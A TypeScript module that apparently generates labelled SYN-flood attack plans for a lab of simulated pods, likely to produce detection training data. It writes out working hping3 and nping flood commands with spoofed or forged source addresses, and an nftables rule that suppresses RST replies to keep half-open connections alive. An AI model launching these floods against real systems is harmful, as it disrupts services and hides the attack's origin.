import { attackerBeside } from './plan.ts'
import type { AttackPlan, Variant } from './plan.ts'
import type { World } from '../draw-world.ts'
import type { Place } from '../place.ts'
import { SERVERS } from '../servers/servers.ts'

/** A port of the pod that somebody serves, or, now and then, one that nobody does. */
export function drawPort (world: World, victim: Place): number {
  const served: Readonly<Record<string, readonly number[]>> = { web: SERVERS.web.ports, database: SERVERS.database.ports, cache: SERVERS.cache.ports, files: [21, 22, 445], outside: [world.settings.appPort, 22], shop: [world.settings.appPort, 50051], orders: [world.settings.appPort, 50051] }
  return world.random.chance(0.15) ? world.random.integer(1000, 14_000) : world.random.pick(served[victim.name] ?? [22])
}

export const victims = (world: World) => world.everyone.filter((pod) => pod.name !== 'names')

/** The kernel answers an unexpected SYN-ACK with RST, which closes what a half-open flood wants open. */
const withoutResets = (victim: Place, port: number) => `nft -f - <<'END'
table ip ${resetsTable(victim, port)} {
  chain output {
    type filter hook output priority 0
    ip daddr ${victim.address} tcp flags & rst == rst drop
  }
}
END
`
/** One a flood: a pod may carry out two at a time. */
const resetsTable = ({ name }: Place, port: number) => `lab_resets_${name}_${port}`
const withResets = (victim: Place, port: number) => `nft delete table ip ${resetsTable(victim, port)}`

type Flood = Omit<AttackPlan, 'service' | 'manner'>

export function flood (options: { tool: string, attackers: Place[], victim: Place, port: number, command: string, spoofed: boolean, seconds: number, rate: number }): Flood {
  const { tool, attackers, victim, port, command, spoofed, seconds, rate } = options
  const sources = spoofed ? [null] : attackers.map((pod) => pod.address)
  return {
    class: 'SYN_FLOOD',
    tool,
    rate,
    attackers,
    victims: [victim.address],
    seconds,
    command: spoofed ? command : withoutResets(victim, port) + command,
    ...(spoofed ? {} : { cleanup: withResets(victim, port) }),
    legs: sources.map((source) => ({ source, destination: victim.address, protocol: 'tcp', ports: [port] })),
  }
}

function hping (world: World, spoofed: boolean, attackerCount: number): Flood {
  const { random } = world
  const victim = random.pick(victims(world))
  const attackers = random.sample(world.everyone.filter((pod) => pod !== victim), attackerCount)
  const port = drawPort(world, victim)
  const total = world.rate(50, 5000)
  const rate = total / attackerCount
  const seconds = random.integer(3, 35)
  const command = `hping3 -q -S -p ${port} -i u${Math.round(1e6 / rate)} -c ${Math.ceil(rate * seconds)} ${spoofed ? '--rand-source' : ''} ${victim.address}`
  return flood({ tool: `hping3${spoofed ? ' --rand-source' : ''}`, attackers, victim, port, command, spoofed, seconds: seconds + 1, rate: total })
}

export const SYN_FLOODS: readonly Variant[] = [
  { name: 'hping3-spoofed', heldOut: false, service: 'any', draw: (world) => hping(world, true, 1) },
  { name: 'hping3', heldOut: false, service: 'any', draw: (world) => hping(world, false, 1) },
  { name: 'hping3-many', heldOut: false, service: 'any', draw: (world) => hping(world, world.random.chance(0.3), world.random.integer(2, 4)) },
  {
    name: 'nping',
    heldOut: true,
    service: 'any',
    draw: (world) => {
      const { random } = world
      const victim = random.pick(victims(world))
      const port = drawPort(world, victim)
      const rate = world.rate(100, 3000)
      const seconds = random.integer(4, 25)
      return flood({ tool: 'nping', attackers: [attackerBeside(world, victim)], victim, port, spoofed: false, seconds: seconds + 1, rate, command: `nping --tcp --flags syn -q -H -N --rate ${rate} -c ${rate * seconds} -p ${port} ${victim.address}` })
    },
  },
  {
    name: 'nping-forged',
    heldOut: true,
    service: 'any',
    draw: (world) => {
      const { random } = world
      const victim = random.pick(victims(world))
      const port = drawPort(world, victim)
      const rate = world.rate(100, 2000)
      const seconds = random.integer(4, 20)
      const forged = `198.18.${random.integer(0, 255)}.${random.integer(1, 250)}`
      const plan = flood({ tool: 'nping forged', attackers: [attackerBeside(world, victim)], victim, port, spoofed: true, seconds: seconds + 1, rate, command: `nping --tcp --flags syn -q -H -N -S ${forged} -e eth0 --source-port rand --rate ${rate} -c ${rate * seconds} -p ${port} ${victim.address}` })
      return plan
    },
  },
]
